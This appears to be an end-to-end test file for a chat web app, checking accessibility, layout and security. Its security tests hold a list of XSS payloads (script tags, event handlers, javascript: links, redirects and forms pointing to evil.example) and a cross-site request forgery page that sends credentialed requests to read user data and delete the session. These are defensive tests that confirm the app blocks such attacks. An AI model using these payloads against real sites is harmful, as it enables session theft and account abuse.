import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import axe from "axe-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { httpOf } from "../support/http-client.ts";
import { type ChatNode, startChatNode } from "./chat-node.ts";
import { leave, newRoom, openRoom, type Person, phone, say, shot, signIn } from "./harness.ts";

let chat: ChatNode;

beforeAll(async () => {
  chat = await startChatNode();
});
afterAll(async () => {
  await chat?.[Symbol.asyncDispose]();
});

const markdown = `## The plan

It is *short*, has **two** parts and [a source](https://example.com/plan).

1. Water the tulips
   - in the morning
2. Call \`weather()\` again

\`\`\`ts
const litres = (area: number, days: number): number => area * days * 4.5; // enough for a hot week in the south
\`\`\`

| Day | Rain |
|---|---|
| Monday | 4 mm |
| Tuesday | none |

> Nothing grows faster because one looks at it.
`;

/** Who looks for trouble finds nothing. */
const expectUsable = async (person: Person, what: string): Promise<void> => {
  await person.page.evaluate(axe.source);
  const found = (await person.page.evaluate("axe.run()")) as axe.AxeResults;
  const told = found.violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join("; ")}`);
  expect([what, told]).toEqual([what, []]);
};

/** A room in which Alice and Bob have talked, and in which Bob is asked for a permission now. */
const livelyRoom = async (): Promise<string> => {
  const http = httpOf(chat.squadron);
  const { body } = await http.call("alice", "POST", "/v1/sessions", { name: `garden-${Math.random()}` });
  const path = `/v1/sessions/${body.id}`;
  await http.call("alice", "PUT", `${path}/participants/bob`, { role: "writer" });
  const attachments = [
    { type: "blob", data: "QnV5IG1pbGsu", mimeType: "text/plain", displayName: "garden-notes.txt" },
  ];
  const prompt = `What do we do about the garden? [[call weather {"order":"Berlin"}]] [[echo \n\n${markdown}]]`;
  await http.call("alice", "POST", `${path}/messages`, { prompt, attachments });
  await http.call("bob", "POST", `${path}/messages`, { prompt: "[[echo Thank you.]]" });
  await http.call("alice", "PATCH", path, { title: "The garden in June" });
  await http.call("bob", "POST", `${path}/messages?wait=false`, {
    prompt: 'Warn everybody, please. [[call warn_people {"order":"rain at four"}]]',
  });
  return String(body.id);
};

describe("the page", () => {
  it.each([
    { look: "desktop", options: {} },
    { look: "dark", options: { colorScheme: "dark" } },
    { look: "phone", options: phone },
    { look: "phone-dark", options: { ...phone, colorScheme: "dark" } },
  ] as const)("can be used by everybody: $look", async ({ look, options }) => {
    const id = await livelyRoom();
    const alice = await chat.person("alice", options);
    await alice.page.goto("/chat");
    await alice.page.getByLabel("Your key").waitFor();
    await shot(alice, `${look}-sign-in`);
    await expectUsable(alice, "sign in");
    await signIn(alice);
    await alice.page.getByText("The garden in June").first().waitFor();
    await shot(alice, `${look}-list`);
    await expectUsable(alice, "list");
    await openRoom(alice, id);
    await alice.page.getByRole("button", { name: "Allow" }).waitFor();
    await alice.page.locator(".tool summary").first().click();
    await shot(alice, `${look}-room`);
    await expectUsable(alice, "room");
    await alice.page.locator(".scroller").evaluate((element) => {
      element.scrollTop = 0;
    });
    await shot(alice, `${look}-room-above`);
    await alice.page.getByRole("button", { name: "Share" }).click();
    await alice.page.getByRole("button", { name: "Make a link" }).click();
    await alice.page.getByLabel("Invitation link").waitFor();
    await shot(alice, `${look}-share`);
    await expectUsable(alice, "share");
    await alice.page.keyboard.press("Escape");
    await alice.page.getByRole("button", { name: "Delete" }).click();
    await shot(alice, `${look}-delete`);
    await expectUsable(alice, "delete");
    await alice.page.keyboard.press("Escape");
    await alice.page.goto("/chat/ses_nobody");
    await alice.page.getByText("This chat is not here").waitFor();
    await shot(alice, `${look}-gone`);
    await expectUsable(alice, "gone");
    await leave(alice);
  });

  it("stays as wide as a phone, whatever is written, said and attached", async () => {
    const alice = await chat.person("alice", phone);
    await signIn(alice);
    await newRoom(alice);
    const { page } = alice;
    const expectNarrow = async () =>
      expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(phone.viewport?.width);
    const long = "w".repeat(300);
    await page.getByLabel("Message", { exact: true }).fill(long);
    await page.locator("input[type=file]").setInputFiles({
      name: `${long}.txt`.slice(-200),
      mimeType: "text/plain",
      buffer: Buffer.from("x"),
    });
    await page.getByRole("button", { name: /^Remove www/ }).waitFor();
    await expectNarrow();
    await page.getByRole("button", { name: "Send" }).tap();
    await page.getByText("I am a scripted model").first().waitFor();
    await expectNarrow();
    await say(
      alice,
      `[[echo ${long}\n\n| a | b |\n|-|-|\n| ${long} | ${long} |\n\n\`\`\`\n${long}\n\`\`\`\n\n\`${long}\` https://example.com/${long} done]]`,
    );
    await page.locator("article.answer", { hasText: "done" }).waitFor();
    await expectNarrow();
  });

  it("is used with the keyboard alone", async () => {
    const alice = await chat.person("alice");
    await newRoom(alice);
    const { keyboard } = alice.page;
    const focused = () =>
      alice.page.evaluate(
        "document.activeElement.getAttribute('aria-label') || document.activeElement.textContent",
      );
    const box = alice.page.getByLabel("Message", { exact: true });
    await box.focus();
    await keyboard.type("first line");
    await keyboard.press("Shift+Enter");
    await keyboard.type("[[echo answered]]");
    await keyboard.press("Enter");
    await alice.page.locator(".answer", { hasText: "answered" }).waitFor();
    expect(await alice.page.locator(".message .bubble").textContent()).toContain("first line");
    expect(await box.inputValue()).toBe("");
    expect(await focused()).toBe("Message");
    // From the begin of the page past the list.
    await alice.page.locator("a, button, input, textarea").first().focus();
    expect(await focused()).toBe("Skip to the message box");
    await keyboard.press("Enter");
    await keyboard.type("x");
    expect(await box.inputValue()).toBe("x");
    await alice.page.getByRole("button", { name: "Share" }).focus();
    await keyboard.press("Enter");
    await alice.page.getByRole("dialog").waitFor();
    for (let at = 0; at < 30; at++) {
      await keyboard.press("Tab");
      const inside =
        "document.activeElement === document.body || document.activeElement.closest('dialog') !== null";
      expect(await alice.page.evaluate(inside)).toBe(true);
    }
    await keyboard.press("Escape");
    await alice.page.getByRole("dialog").waitFor({ state: "detached" });
    expect(await focused()).toBe("Share");
    await leave(alice);
  });

  it("says a finished answer to those who cannot see it, once", async () => {
    const alice = await chat.person("alice");
    await newRoom(alice);
    const spoken = alice.page.locator('[aria-live="polite"]', { hasText: "Answer finished" });
    await say(alice, "[[hold speak]] [[echo slowly said]]");
    await alice.page.locator(".answer").waitFor();
    expect(await spoken.count()).toBe(0);
    chat.squadron.model.release("speak");
    await spoken.getByText("Answer finished: slowly said").waitFor();
    await leave(alice);
  });
});

/** Everything that has been tried on chat rooms, in a prompt, an answer, a title, a file's name and a tool's result. */
const hostile = [
  `<script>document.title = "owned"; alert(1)</script>`,
  `<img src=x onerror="document.title = 'owned'; alert(1)">`,
  `<svg onload="document.title = 'owned'"><a href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.document.title = 'owned'</script>"></iframe>`,
  `<style>* { display: none }</style><link rel=stylesheet href=//evil.example/x.css>`,
  `<form action="//evil.example"><input name=key><button>Sign in</button></form>`,
  `<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">`,
  `![pixel](https://evil.example/pixel.png) ![x](javascript:alert(1))`,
  `[run](javascript:alert(1)) [run](&#106;avascript:alert(1)) [run](data:text/html,<script>alert(1)</script>)`,
  `[page](https://evil.example/) <https://evil.example/auto> https://evil.example/bare`,
  `[own](/v1/browser-session) [key](#key=stolen)`,
  `\`\`\`"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n\`\`\``,
  `| <b onmouseover=alert(1)>x</b> |\n|---|\n| <img src=//evil.example/t.png> |`,
  `<details open ontoggle=alert(1)><summary>x</summary></details><video src=//evil.example/v onerror=alert(1)></video>`,
  `${"> ".repeat(3_000)}deep`,
].join("\n\n");

describe("what people and models write", () => {
  it("does nothing, is no markup, and leads nowhere by itself", async () => {
    const http = httpOf(chat.squadron);
    const title = `<img src=x onerror="document.title='owned'">`;
    const { body } = await http.call("alice", "POST", "/v1/sessions", { name: title });
    const path = `/v1/sessions/${body.id}`;
    const attachments = [{ type: "blob", data: "eA==", mimeType: "text/plain", displayName: `${title}.txt` }];
    await http.call("alice", "POST", `${path}/messages`, {
      prompt: `${hostile} [[echo ${hostile}]]`,
      attachments,
    });
    const args = JSON.stringify({ order: hostile });
    await http.call("alice", "POST", `${path}/messages`, { prompt: `[[call weather ${args}]]` });
    await http.call("alice", "PATCH", path, { title });
    const alice = await chat.person("alice");
    await alice.page.addInitScript(
      `document.addEventListener("securitypolicyviolation", (e) => console.error("violation: " + e.violatedDirective + " " + e.blockedURI));`,
    );
    await openRoom(alice, String(body.id));
    await alice.page.locator(".answer").last().waitFor();
    for (const summary of await alice.page.locator(".tool summary").all()) await summary.click();
    await shot(alice, "hostile");
    const { page } = alice;
    expect(await page.title()).toBe(`${title} · Squadron`);
    const markup =
      "script:not([src]), iframe, style, img, video, base, meta[http-equiv], form:not(.composer), [onerror], [onload]";
    expect(await page.locator("#root").locator(markup).count()).toBe(0);
    const links = await page
      .locator("#root .markdown a")
      .evaluateAll((all) =>
        all.map((one) => [one.getAttribute("href"), one.getAttribute("rel"), one.getAttribute("target")]),
      );
    expect(links.length).toBeGreaterThan(0);
    for (const [href, rel, target] of links) {
      expect(href).toMatch(/^https:\/\/evil\.example\//);
      expect([rel, target]).toEqual(["noopener noreferrer nofollow", "_blank"]);
    }
    expect(await page.locator(".chip").first().textContent()).toBe(`${title}.txt`);
    await page.mouse.move(400, 300);
    // Still alive, and nothing was asked of anybody else.
    await say(alice, "[[echo still here]]");
    await page.locator(".answer", { hasText: "still here" }).waitFor();
    await leave(alice);
  });
});

/** A page of somebody else that tries what a page can with the cookie of who looks at it. */
const foreignPage = (node: string): string => `<!doctype html><title>trying</title>
<img src="${node}/v1/sessions"><iframe src="${node}/chat"></iframe>
<form method=post enctype="text/plain" action="${node}/v1/sessions" target=out><input name='{"name":"stolen-by-form","x":"' value='"}'></form>
<iframe name=out></iframe>
<script type=module>
const tries = [
  fetch("${node}/v1/sessions", { method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"stolen-plain"}' }),
  fetch("${node}/v1/sessions", { method: "POST", credentials: "include", body: '{"name":"stolen-json"}',
    headers: { "content-type": "application/json", "x-squadron-request": "1" } }),
  fetch("${node}/v1/me", { credentials: "include" }).then((r) => r.text()).then((text) => { document.body.dataset.read = text; }),
  fetch("${node}/v1/browser-session", { method: "DELETE", credentials: "include", headers: { "x-squadron-request": "1" } }),
];
document.forms[0].submit();
const source = new EventSource("${node}/v1/sessions/whatever/events", { withCredentials: true });
tries.push(new Promise((resolve) => { source.onerror = resolve; }));
await Promise.allSettled(tries);
document.title = "tried";
</script>`;

describe("other sites' pages", () => {
  it.each([
    { where: "of another site", host: "localhost" },
    { where: "of the same site, but another origin", host: "127.0.0.1" },
  ])("$where do and learn nothing with the cookie of who looks at them", async ({ host }) => {
    const site = createServer((_, response) =>
      response.setHeader("content-type", "text/html").end(foreignPage(chat.squadron.baseUrl)),
    );
    site.listen(0, "127.0.0.1");
    await once(site, "listening");
    try {
      const alice = await chat.person("alice");
      await signIn(alice);
      const other = await alice.context.newPage();
      const answers = new Map<string, number>();
      other.on("response", (response) => {
        const name = `${response.request().method()} ${new URL(response.url()).pathname}`;
        if (response.url().startsWith(chat.squadron.baseUrl)) answers.set(name, response.status());
      });
      await other.goto(`http://${host}:${(site.address() as AddressInfo).port}/`);
      await other.waitForFunction("document.title === 'tried'");
      expect(await other.evaluate("document.body.dataset.read ?? null")).toBeNull();
      for (const [name, status] of answers)
        if (name !== "GET /chat" && !name.startsWith("GET /chat/"))
          expect([name, status >= 400]).toEqual([name, true]);
      const { body } = await httpOf(chat.squadron).call("alice", "GET", "/v1/sessions?limit=200");
      expect(JSON.stringify(body)).not.toContain("stolen");
      // Nor is she signed out.
      await alice.page.reload();
      await alice.page.locator(".list").waitFor();
      await alice.context.close();
    } finally {
      site.closeAllConnections();
      site.close();
    }
  });
});
